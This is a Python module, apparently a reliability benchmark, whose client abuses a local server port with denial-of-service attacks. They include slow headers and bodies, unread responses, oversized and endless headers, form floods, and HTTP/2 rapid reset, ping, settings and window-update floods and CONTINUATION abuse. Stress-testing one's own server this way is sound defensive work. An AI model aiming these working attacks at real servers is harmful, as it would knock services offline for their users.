"""An unauthenticated client that abuses a port: `python -m bench.reliability.attacks PORT KIND ATTACK CONNECTIONS`."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import sys
from collections.abc import Callable, Coroutine
from dataclasses import dataclass

from h2.connection import H2Connection
from h2.exceptions import ProtocolError

from watchword.registration.grpc.cloud_events import PUBLISH
from watchword.runtime.event_loop import new_loop

ADDRESS = "127.0.0.2"  # another than the administrator's: limits hold for each address
HEADERS = [(":method", "POST"), (":scheme", "https"), (":authority", "hub"), (":path", PUBLISH), ("te", "trailers")]
HEADERS += [("content-type", "application/grpc+proto")]

FORM = b"POST /auth/token HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
FORM += b"Content-Length: 60000\r\n\r\n" + b"a=b&" * 15_000


@dataclass(frozen=True, slots=True)
class Port:
    """The port of a server, and what it speaks: http, https or h2."""

    number: int
    kind: str

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Connect without a credential."""
        context = None
        if self.kind != "http":
            context = ssl._create_unverified_context()  # noqa: SLF001 - an attacker verifies nothing
            context.set_alpn_protocols(["h2"] if self.kind == "h2" else ["http/1.1"])
        name = "localhost" if context is not None else None
        return await asyncio.open_connection(
            "127.0.0.1", self.number, ssl=context, server_hostname=name, local_addr=(ADDRESS, 0)
        )


Attack = Callable[[Port], Coroutine[None, None, None]]


async def _idle(port: Port) -> None:
    """Connect without TLS, and say nothing."""
    reader, _ = await asyncio.open_connection("127.0.0.1", port.number, local_addr=(ADDRESS, 0))
    await reader.read(1)


async def _churn(port: Port) -> None:
    """Connect and go away, again and again."""
    _, writer = await port.connect()
    writer.transport.abort()


async def _drip(port: Port, first: bytes, drop: bytes) -> None:
    _, writer = await port.connect()
    writer.write(first)
    while not writer.is_closing():
        writer.write(drop)
        await writer.drain()
        await asyncio.sleep(0.5)


async def _slow_headers(port: Port) -> None:
    await _drip(port, b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X-A: b\r\n")


async def _slow_body(port: Port) -> None:
    await _drip(port, b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n", b"a")


async def _slow_read(port: Port) -> None:
    """Ask for many answers and read none."""
    _, writer = await port.connect()
    writer.transport.pause_reading()  # type: ignore[attr-defined]  # of sockets
    while not writer.is_closing():
        writer.write(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20)
        await writer.drain()
        await asyncio.sleep(0.1)


async def _send_until_closed(port: Port, next_bytes: Callable[[], bytes]) -> None:
    reader, writer = await port.connect()
    reading = asyncio.ensure_future(reader.read())  # until the server closes the connection
    try:
        while not reading.done() and not writer.is_closing():
            writer.write(next_bytes())
            await writer.drain()
            await asyncio.sleep(0)
    finally:
        reading.cancel()
        writer.transport.abort()


def _repeat(request: bytes) -> Attack:
    return lambda port: _send_until_closed(port, lambda: request)


async def _long_header(port: Port) -> None:
    """Send one header without an end, as fast as it is read."""
    _, writer = await port.connect()
    writer.write(b"GET / HTTP/1.1\r\nX: ")
    while not writer.is_closing():
        writer.write(b"a" * 65536)
        await writer.drain()
        await asyncio.sleep(0)


def _flood(send: Callable[[H2Connection], None]) -> Attack:
    async def flood(port: Port) -> None:
        h2 = H2Connection()
        h2.initiate_connection()

        def next_frames() -> bytes:
            send(h2)
            return h2.data_to_send()

        await _send_until_closed(port, next_frames)

    return flood


def _stream(h2: H2Connection, *, ended: bool = False) -> None:
    h2.send_headers(h2.get_next_available_stream_id(), HEADERS, end_stream=ended)


def _many_headers(h2: H2Connection) -> None:
    stream = h2.get_next_available_stream_id()
    h2.send_headers(stream, [*HEADERS, *((f"x-{number}", "a" * 30) for number in range(1000))])


def _reset(h2: H2Connection) -> None:
    stream = h2.get_next_available_stream_id()
    h2.send_headers(stream, HEADERS)
    h2.reset_stream(stream)


def _continuation(size: int, pause: float) -> Attack:
    """Send headers that never end, in CONTINUATION frames."""

    async def send(port: Port) -> None:
        _, writer = await port.connect()
        h2 = H2Connection()
        h2.initiate_connection()
        writer.write(h2.data_to_send() + b"\x00\x00\x01\x01\x00\x00\x00\x00\x01\x82")
        while not writer.is_closing():
            writer.write(size.to_bytes(3) + b"\x09\x00\x00\x00\x00\x01" + b"\x82" * size)
            await writer.drain()
            await asyncio.sleep(pause)

    return send


async def _slow_message(port: Port) -> None:
    """Send a message of which a byte comes now and then."""
    _, writer = await port.connect()
    h2 = H2Connection()
    h2.initiate_connection()
    _stream(h2)
    while not writer.is_closing():
        h2.send_data(1, b"\x00")
        writer.write(h2.data_to_send())
        await writer.drain()
        await asyncio.sleep(0.5)


async def _unread_streams(port: Port) -> None:
    """Ask for many answers, allow none to be sent, and read nothing."""
    _, writer = await port.connect()
    writer.transport.pause_reading()  # type: ignore[attr-defined]  # of sockets
    h2 = H2Connection()
    h2.initiate_connection()
    h2.update_settings({4: 0})  # INITIAL_WINDOW_SIZE
    while not writer.is_closing():
        _stream(h2, ended=True)
        writer.write(h2.data_to_send())
        await writer.drain()
        await asyncio.sleep(0.1)


CONNECTIONS: dict[str, Attack] = {"idle connections": _idle, "connections without end": _churn}
HTTP1: dict[str, Attack] = {
    **CONNECTIONS,
    "slow headers": _slow_headers,
    "slow body": _slow_body,
    "unread answers": _slow_read,
    "one endless header": _long_header,
    "many headers": _repeat(b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"X-A: b\r\n" * 5000 + b"\r\n"),
    "forms of many fields": _repeat(FORM),
}
HTTP2: dict[str, Attack] = {
    **CONNECTIONS,
    "rapid reset": _flood(_reset),
    "pings": _flood(lambda h2: h2.ping(b"12345678")),
    "settings": _flood(lambda h2: h2.update_settings({1: 4096})),
    "window updates": _flood(lambda h2: h2.increment_flow_control_window(1)),
    "endless headers": _continuation(1024, 0),
    "slow headers": _continuation(1, 0.5),
    "many headers": _flood(_many_headers),
    "streams": _flood(_stream),
    "slow body": _slow_message,
    "unread answers": _unread_streams,
}
ATTACKS = {"http": HTTP1, "https": HTTP1, "h2": HTTP2}


async def _abuse(port: Port, attack: Attack, connections: int) -> None:
    async def repeat() -> None:
        while True:
            with contextlib.suppress(OSError, EOFError, ProtocolError):
                await attack(port)
            await asyncio.sleep(0.05)  # it was turned away

    await asyncio.gather(*(repeat() for _ in range(connections)))


if __name__ == "__main__":
    number, kind, name, connections = sys.argv[1:]
    with asyncio.Runner(loop_factory=new_loop) as runner:
        runner.run(_abuse(Port(int(number), kind), ATTACKS[kind][name], int(connections)))
